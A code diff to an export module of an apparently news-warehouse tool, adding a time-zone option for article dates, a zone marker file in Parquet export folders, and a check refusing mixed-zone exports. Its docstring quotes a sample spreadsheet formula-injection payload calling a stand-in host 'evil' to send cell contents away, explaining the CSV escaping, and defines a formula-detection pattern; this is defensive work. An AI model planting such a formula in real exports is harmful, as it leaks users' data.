@@ -13,8 +13,11 @@ included, plus a `date` column); the other tables are one `newsflow query` away.
   OWASP advises: a title `=HYPERLINK("http://evil/?"&A1, "click")` opened in Excel or LibreOffice
   would send the sheet's cells away. JSON Lines and Parquet keep every text as it is stored.
 
-`date` is the UTC date of `published_at`, else of `fetched_at`; `since` keeps dates on or after it.
-Timestamps are written in UTC.
+`date` is the date of `published_at`, else of `fetched_at`, in the export's zone (`tz`, UTC unless given:
+`newsflow export --tz`, "Analyst 53"); `since` keeps dates on or after it. CSV and JSON write timestamps with
+that zone's offset; Parquet stores instants. A Parquet export records its zone in `articles/_newsflow_zone`, and
+one in another zone into that folder is refused: it would rewrite only the dates it covers, and an article near
+midnight would sit in both zones' date folders (a folder without the file was exported in UTC).
 """
 
 from __future__ import annotations
@@ -37,7 +40,9 @@ if TYPE_CHECKING:
 ExportFormat = Literal["parquet", "csv", "jsonl"]
 EXPORT_FORMATS: tuple[ExportFormat, ...] = ("parquet", "csv", "jsonl")
 
-_DATE = "CAST(coalesce(published_at, fetched_at) AT TIME ZONE 'UTC' AS DATE)"
+_DATE = "CAST(coalesce(published_at, fetched_at) AT TIME ZONE $tz AS DATE)"
+ZONE_FILE = "_newsflow_zone"
+"""Beside a Parquet export's date folders: the zone of its dates (readers skip files starting with `_`)."""
 _SELECT = f"SELECT *, {_DATE} AS date FROM articles WHERE $since IS NULL OR {_DATE} >= $since ORDER BY date, article_id"
 # A text cell a spreadsheet reads as a formula: it begins with one of these and is not a number.
 FORMULA_START = r"^[=+\-@\t\r]"
@@ -57,22 +62,25 @@ class ExportSummary:
 
 
 def export_articles(
-    warehouse: Warehouse, out_dir: Path, fmt: ExportFormat, since: date | None = None
+    warehouse: Warehouse, out_dir: Path, fmt: ExportFormat, since: date | None = None, tz: str = "UTC"
 ) -> ExportSummary:
-    """Write the articles (dated `since` or later) to `out_dir` in `fmt`; returns what was written."""
+    """Write the articles (dated `since` or later in `tz`, a zone as DuckDB spells it) to `out_dir` in `fmt`;
+    returns what was written."""
     if fmt not in EXPORT_FORMATS:
         raise ValueError(f"unknown export format {fmt!r}; expected one of {', '.join(EXPORT_FORMATS)}")
     target = out_dir / ("articles" if fmt == "parquet" else f"articles.{fmt}")
     _prepare_folder(out_dir, target, fmt)
+    if fmt == "parquet":
+        _check_zone(target, tz)
     # DuckDB writes a CSV or JSON file beside its target and renames it; Parquet partitions it writes in
     # place, so a full disk cut the previous export's files short: they go to a fresh folder first.
     written = out_dir / f".articles.partial-{os.getpid()}" if fmt == "parquet" else target
     with warehouse.reading() as con:
-        con.execute("SET TimeZone = 'UTC'")  # session only: timestamps in CSV and JSON are written in UTC
+        con.execute(f"SET TimeZone = {_sql_literal(tz)}")  # session only: CSV's and JSON's timestamps are tz's
         try:
             select = _spreadsheet_safe_select(con) if fmt == "csv" else _SELECT
             rows = con.execute(
-                f"COPY ({select}) TO {_sql_string(written)} ({_OPTIONS[fmt]})", {"since": since}
+                f"COPY ({select}) TO {_sql_string(written)} ({_OPTIONS[fmt]})", {"since": since, "tz": tz}
             ).fetchall()
         except duckdb.Error as exc:
             if written != target:
@@ -81,6 +89,7 @@ def export_articles(
                               "is left as it was") from exc
     if written != target:
         _move_partitions(written, target)
+        (target / ZONE_FILE).write_text(tz + "\n", encoding="utf-8")
     files = tuple(sorted(target.rglob("*.parquet"))) if fmt == "parquet" else (target,)
     return ExportSummary(fmt, target, int(rows[0][0]) if rows else 0, files)
 
@@ -98,6 +107,18 @@ def _move_partitions(written: Path, target: Path) -> None:
         else:
             partition.rename(old)
     written.rmdir()
+
+
+def _check_zone(target: Path, tz: str) -> None:
+    """InputError (exit 2) when the Parquet export in `target` has its dates in another zone than `tz`."""
+    if not target.is_dir():
+        return
+    zone_file = target / ZONE_FILE
+    earlier = zone_file.read_text(encoding="utf-8").strip() if zone_file.is_file() else "UTC"
+    if earlier.lower() != tz.lower():
+        raise InputError(f"export: the export in {target} has its dates in {earlier}, and one in {tz} would put an "
+                         f"article near midnight in two date folders; give --tz {earlier}, or another DIR, or "
+                         "delete that folder first")
 
 
 def _spreadsheet_safe_select(con: duckdb.DuckDBPyConnection) -> str:
@@ -138,4 +159,8 @@ def _special_file(target: Path) -> Path | None:
 
 def _sql_string(path: Path) -> str:
     # COPY takes its target as a literal, not a parameter.
-    return "'" + str(path.resolve()).replace("'", "''") + "'"
+    return _sql_literal(str(path.resolve()))
+
+
+def _sql_literal(text: str) -> str:
+    return "'" + text.replace("'", "''") + "'"
